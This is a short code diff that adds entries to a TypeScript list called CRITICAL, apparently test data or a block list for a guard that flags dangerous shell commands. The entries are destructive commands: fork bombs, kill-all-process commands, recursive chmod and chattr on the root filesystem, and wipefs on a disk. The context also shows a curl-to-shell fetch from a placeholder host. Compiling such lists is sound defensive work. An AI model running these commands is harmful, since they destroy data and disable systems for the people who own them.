@@ -865,6 +865,18 @@ const CRITICAL: string[] = [
   'sh -c "$(curl -fsSL x.example)"',
   ":(){ :|:& };:",
   "bomb(){ bomb|bomb& }; bomb",
+  "echo ':(){ :|:& };:' | sh",
+  "eval \"$(echo ':(){ :|:& };:')\"",
+  "kill -9 -1",
+  "kill -s KILL -- -1",
+  'pkill -9 -u "$USER"',
+  "killall5",
+  "chmod -R 000 /",
+  "chmod -R 000 ~/",
+  "cd / && chmod -R 777 .",
+  "chattr -R +i /",
+  "chown -R x /home/ada",
+  "wipefs -a /dev/sda",
 ];
 
 // 7. Subcommands whatever the option order.
